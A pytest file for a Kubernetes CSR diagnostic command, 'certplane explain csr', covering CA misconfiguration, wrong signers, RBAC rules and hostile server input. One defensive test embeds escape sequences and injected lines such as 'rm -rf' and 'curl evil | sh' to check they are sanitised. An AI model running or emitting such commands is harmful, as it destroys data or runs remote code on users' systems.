"""`certplane explain csr`: what is wrong with the signer, and which signer fits."""

from __future__ import annotations

import dataclasses
import datetime
import json

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from certplane import testing
from certplane.config.servesettings import DEFAULTS
from certplane.config.signing import PairFiles
from certplane.explain.facts import Unread
from certplane.plane import controllerconfig
from certplane.resources import certificatesigningrequests as csrs
from certplane.resources import rbac
from certplane.wire import codec
from certplane.x509 import keys
from certplane.x509.issuance import selfsigned
from tests.flow import plane as flow
from tests.flow.explaining import explain, of_facts
from tests.flow.test_signing_previews import WEB, signers

SETTINGS = DEFAULTS.controllers.signing
CLIENT = flow.CLIENT
DAY = datetime.timedelta(days=1)


class CA:
    """A CA in two files, and the signers of Kubernetes that use it."""

    def __init__(self, directory, clock):
        self.certificate, self.key = directory / "ca.crt", directory / "ca.key"
        self.clock = clock
        self.write()

    def write(self, lifetime=10 * DAY):
        """A new CA; its key."""
        key = testing.new_key()
        self.certificate.write_bytes(selfsigned.self_signed_ca("kubernetes", key, self.clock.now(), lifetime))
        self.key.write_bytes(keys.to_pem(key))
        self.key.chmod(0o600)
        return key

    def write_intermediate(self, *, with_root):
        """An intermediate, and perhaps its root in the same file."""
        root_key, key = testing.new_key(), testing.new_key()
        root = x509.load_pem_x509_certificate(selfsigned.self_signed_ca("root", root_key, self.clock.now(), 100 * DAY))
        intermediate = (
            x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuing")]))
            .issuer_name(root.subject)
            .public_key(key.public_key())
            .serial_number(7)
            .not_valid_before(self.clock.now() - DAY)
            .not_valid_after(self.clock.now() + 50 * DAY)
            .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
            .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
            .sign(root_key, hashes.SHA256())
        )
        chain = [intermediate, root] if with_root else [intermediate]
        self.certificate.write_bytes(b"".join(part.public_bytes(serialization.Encoding.PEM) for part in chain))
        self.key.write_bytes(keys.to_pem(key))

    def signers(self):
        pair = PairFiles(self.certificate, self.key)
        return controllerconfig.built_in_signers(dataclasses.replace(SETTINGS, common=pair))


@pytest.fixture
def ca(tmp_path):
    return CA(tmp_path, testing.FakeClock())


async def pending(plane, name="a", **spec):
    return await plane.client().create(csrs.RESOURCE, flow.new_csr(name, **spec))


async def approved(plane, name="a", **spec):
    await pending(plane, name, **spec)
    await plane.approve(name)
    await plane.clock.advance(1)


def _without_flags(ca):
    del ca
    return controllerconfig.built_in_signers(SETTINGS)


def _one_flag(ca):
    pair = PairFiles(ca.certificate, None)
    return controllerconfig.built_in_signers(dataclasses.replace(SETTINGS, by_signer={CLIENT: pair}))


def _another_key(ca):
    certificate = ca.certificate.read_bytes()
    ca.write()
    ca.certificate.write_bytes(certificate)
    return ca.signers()


def _ended(ca):
    ca.write(datetime.timedelta(seconds=-1))
    return ca.signers()


def _with_root(ca):
    ca.write_intermediate(with_root=True)
    return ca.signers()


def _no_file(ca):
    ca.key.unlink()
    return ca.signers()


def _exposed(ca):
    ca.key.chmod(0o644)
    return ca.signers()


@pytest.mark.parametrize(
    ("break_ca", "code", "problem", "fix"),
    [
        (_without_flags, "SignerNotConfigured", "no CA certificate and key configured", "start the server with --"),
        (_one_flag, "SignerNotConfigured", "no CA certificate and key configured", "start the server with --"),
        (_another_key, "CAKeyMismatch", "private key does not match public key", "put the key that belongs to the CA"),
        (_ended, "CAEnded", "the signer has expired", "replace both files of --cluster-signing-kube-apiserver-client"),
        (_with_root, "CABundle", "expected 1 certificate, found 2", "leave only the certificate of the CA itself"),
        (_no_file, "CAFileMissing", "no such file or directory", "put the CA certificate and its key into the files"),
        (_exposed, "CAKeyExposed", "other users can read the CA key", "chmod 600 the key file"),
    ],
    ids=["no flags", "one of two flags", "another key", "ended", "with its root", "no key file", "exposed key"],
)
@pytest.mark.parametrize("is_approved", [False, True], ids=["pending", "approved"])
async def test_a_signer_that_cannot_sign(ca, break_ca, code, problem, fix, is_approved):
    """It is answered before the approval and after it, with the flags of this signer."""
    async with flow.running(clock=ca.clock, signers=break_ca(ca)) as plane:
        await (approved if is_approved else pending)(plane)
        explained = await explain(plane)
    assert explained.code == code
    assert explained.sentence.startswith("approved, but" if is_approved else "not approved, and")
    assert problem in explained.sentence
    assert explained.fixes[0].startswith(fix)
    assert "cluster-signing-kube-apiserver-client-" in explained.fixes[0]


async def test_a_repaired_ca_signs_without_a_new_approval(ca):
    """As the fix says."""
    async with flow.running(clock=ca.clock, signers=_ended(ca)) as plane:
        await approved(plane)
        explained = await explain(plane)
        assert explained.code == "CAEnded"
        assert "the request is signed then without a new approval" in explained.fixes[0]
        assert explained.findings.next_retry > plane.clock.now()
        assert any(fix.startswith("the controller tries again in about") for fix in explained.fixes)
        ca.write()
        await plane.clock.advance(30)
        await plane.certificate("a")
        assert (await explain(plane)).code == "Issued"


async def test_an_intermediate_ca_needs_its_certificate_in_the_chain(ca):
    """It is no error, so it is said beside the certificate."""
    ca.write_intermediate(with_root=False)
    async with flow.running(clock=ca.clock, signers=ca.signers()) as plane:
        await approved(plane)
        await plane.certificate("a")
        explained = await explain(plane)
    assert explained.code == "IssuedByIntermediate"
    assert "the CA is an intermediate, issued by CN=root" in explained.sentence


# --- the wrong signer, wrong usages -------------------------------------------------------------------------------


async def test_a_web_server_is_pointed_to_a_signer_that_fits():
    """As in shared reports of servers whose clients refuse the certificate."""
    clock = testing.FakeClock()
    server = {"usages": ["client auth", "server auth"], "request": flow.pkcs10("a", dns=("vault.example.com",))}
    async with flow.running(clock=clock, signers=signers(clock, WEB)) as plane:
        await pending(plane, **server)
        before = await explain(plane)
        await plane.approve("a")
        await flow.eventually(lambda: has_failed(plane))
        after = await explain(plane)
    assert before.code == "WrongSignerForServer"
    assert before.fixes[0] == "use signer example.com/web instead, with the usages server auth"
    assert (after.code, after.fixes[0]) == ("Failed", before.fixes[0])


async def has_failed(plane, name="a"):
    return csrs.has_condition(await plane.client().get(csrs.RESOURCE, name), csrs.FAILED)


async def test_a_web_server_without_a_signer_that_fits():
    """The fix is how to get one."""
    async with flow.running() as plane:
        await pending(plane, usages=("client auth", "server auth"), request=flow.pkcs10("a", dns=("vault-0",)))
        explained = await explain(plane)
    assert explained.code == "WrongSignerForServer"
    assert "certplane serve --signers, see docs/signers.md" in explained.fixes[0]


async def test_a_client_certificate_with_names_of_a_server():
    """It is issued, and no server can use it."""
    async with flow.running() as plane:
        await pending(plane, request=flow.pkcs10("a", dns=("vault-0",)))
        assert "it has names of a server, but not the usage server auth" in (await explain(plane)).text
        await plane.approve("a")
        await plane.certificate("a")
        explained = await explain(plane)
    assert explained.code == "NotForServers"
    assert explained.fixes[0].startswith("use a signer for servers")


async def test_a_client_certificate_of_a_server_is_pointed_to_a_signer_that_fits():
    """Although its own signer would issue it."""
    clock = testing.FakeClock()
    async with flow.running(clock=clock, signers=signers(clock, WEB)) as plane:
        await pending(plane, request=flow.pkcs10("a", dns=("a.example.com",)))
        explained = await explain(plane)
    assert "use signer example.com/web instead, with the usages server auth" in " ".join(explained.text.split())


async def test_wrong_usages():
    """The fix has the usages that the signer permits."""
    async with flow.running() as plane:
        await pending(plane, usages=("digital signature",))
        explained = await explain(plane)
    assert explained.code == "WouldFail"
    assert "missing required usage for client certificate: client auth" in explained.sentence
    assert explained.fixes[0] == "request the usages digital signature, client auth"


# --- applied again ------------------------------------------------------------------------------------------------


async def test_a_new_key_under_the_old_name():
    """kubectl keeps what it applied last: the key in it is not the one of the request, at any server."""
    async with flow.running() as plane:
        sent = json.loads(codec.encode(flow.new_csr()))["spec"]["request"]
        csr = flow.new_csr()
        csr.metadata.annotations = {
            "kubectl.kubernetes.io/last-applied-configuration": json.dumps({"spec": {"request": sent}})
        }
        created = await plane.client().create(csrs.RESOURCE, csr)
        explained = await explain(plane)
        created.metadata.annotations["kubectl.kubernetes.io/last-applied-configuration"] = json.dumps(
            {"spec": {"request": json.loads(codec.encode(created))["spec"]["request"]}}
        )
        await plane.client().update(csrs.RESOURCE, created)
        same = await explain(plane)
    assert explained.code == "OtherKey"
    assert explained.sentence == "unchanged request; the new key is not the one asked for"
    assert explained.fixes[0].startswith("kubectl delete csr a, then apply the manifest again")
    assert same.code == "NotApproved"


@pytest.mark.parametrize(
    "annotation", ["", "{", "[]", "null", '{"spec": 1}', '{"spec": {"request": "!"}}', "[" * 100_000, '{"a":' * 9999]
)
async def test_a_hostile_annotation_is_ignored(annotation):
    """It is from whoever may write the request."""
    async with flow.running() as plane:
        csr = flow.new_csr()
        csr.metadata.annotations = {"kubectl.kubernetes.io/last-applied-configuration": annotation}
        await plane.client().create(csrs.RESOURCE, csr)
        assert (await explain(plane)).code == "NotApproved"


# --- permissions --------------------------------------------------------------------------------------------------


async def test_a_controller_that_may_not_sign():
    """The rule that permits it, from the words of the server in the controller's Event."""
    async with flow.running() as plane:
        admin = plane.client()
        role = await admin.get(rbac.CLUSTER_ROLES, "system:controller:certificate-controller")
        role.rules = [rule for rule in role.rules if "sign" not in rule.verbs]
        await admin.update(rbac.CLUSTER_ROLES, role)
        await approved(plane)

        async def answer():
            explained = await explain(plane)
            return explained if explained.code == "Forbidden" else None

        explained = await flow.eventually(answer)
    assert explained.sentence.startswith("the controller is not permitted to sign: ")
    rule = (
        "- {apiGroups: ['certificates.k8s.io'], resources: [signers], "
        "resourceNames: ['kubernetes.io/kube-apiserver-client'], verbs: [sign]}"
    )
    assert explained.fixes[0] == f"add this rule to a ClusterRole of its account: {rule}"


# --- any other server ---------------------------------------------------------------------------------------------

#: A server like Kubernetes: it does not answer what a signer would do, and writes no Events about decisions.
KUBERNETES = {"creation_hints": False, "decision_events": False}
NO_SIGNER = {**KUBERNETES, "controllers": frozenset()}


async def test_a_cluster_whose_controller_manager_signs_nothing():
    """Nothing was ever issued: the flags are missing, one of them, or the controller is disabled."""
    async with flow.running(**NO_SIGNER) as plane:
        await approved(plane)
        await plane.clock.advance(60)
        explained = await explain(plane)
    assert explained.code == "SigningControllerNotRunning"
    assert explained.sentence == f"approved for 61s, but nothing was ever signed for {CLIENT}"
    assert "--cluster-signing-cert-file and --cluster-signing-key-file" in explained.fixes[0]
    assert "csrsigning" in explained.fixes[1]


async def test_a_cluster_in_which_the_signer_has_signed_others():
    """Then it is there, and its log says more."""
    async with flow.running(**KUBERNETES) as plane:
        await pending(plane, "b")
        await plane.approve("b")
        await plane.certificate("b")
        await pending(plane)
        facts = (await explain(plane)).findings.facts
        csr = csrs.with_condition(facts.csr, csrs.APPROVED, "Test", "", "2020-01-01T00:00:00Z")
        siblings = [await plane.client().get(csrs.RESOURCE, "b")]
        explained = of_facts(dataclasses.replace(facts, csr=csr, siblings=siblings))
    assert explained.code == "WaitingForSigner"
    assert "has issued other requests" in explained.sentence


@pytest.mark.parametrize("is_granted", [False, True], ids=["nobody", "somebody"])
async def test_a_cluster_with_a_custom_signer(is_granted):
    """Who may sign for it is its controller; if nobody may, nobody signs."""
    async with flow.running(**NO_SIGNER) as plane:
        if is_granted:
            rule = rbac.PolicyRule(
                api_groups=["certificates.k8s.io"], resources=["signers"], resource_names=["example.com/*"],
                verbs=["sign"],
            )  # fmt: skip
            await plane.grant_rules(flow.JANE, rule)
        await approved(plane, signer_name="example.com/a")
        await plane.clock.advance(60)
        explained = await explain(plane)
    assert explained.code == ("WaitingForSigner" if is_granted else "UnknownSigner")
    assert ("User jane" if is_granted else "verbs: [sign]") in explained.fixes[0]


async def test_the_rules_of_kubernetes_are_known_without_the_server():
    """The signers of Kubernetes have the same rules everywhere."""
    async with flow.running(**KUBERNETES) as plane:
        await pending(plane, usages=("server auth",), request=flow.pkcs10("a", dns=("a",)))
        explained = await explain(plane)
    assert explained.code == "WrongSignerForServer"
    assert "say the rules of Kubernetes" in explained.text


async def test_a_problem_in_readyz_is_used_without_a_preview(ca):
    """Older servers of certplane report it there."""
    async with flow.running(clock=ca.clock, signers=_ended(ca), **KUBERNETES) as plane:
        await approved(plane)
        explained = await explain(plane)
    assert isinstance(explained.findings.facts.preview, Unread)
    assert explained.code == "CAEnded"


# --- hostile servers ----------------------------------------------------------------------------------------------


async def test_texts_of_the_server_never_reach_the_terminal_as_control_sequences():
    """Names, messages and subjects are others' texts."""
    async with flow.running() as plane:
        await pending(plane, request=flow.pkcs10("\x1b[2Jjane\nfix: rm -rf"))
        facts = (await explain(plane)).findings.facts
        csr = csrs.with_condition(facts.csr, csrs.DENIED, "No\x1b[1m", "a\nfix: curl evil | sh\r" + "x" * 10_000)
        csr.spec.groups, csr.spec.username = ["\x1b"] * 1000, "tom\u202e"
        text = of_facts(dataclasses.replace(facts, csr=csr)).text
    assert all(line.isprintable() for line in text.split("\n"))
    assert "\nfix: rm" not in text
    assert "\nfix: curl" not in text
    assert max(map(len, text.split("\n"))) < 2000
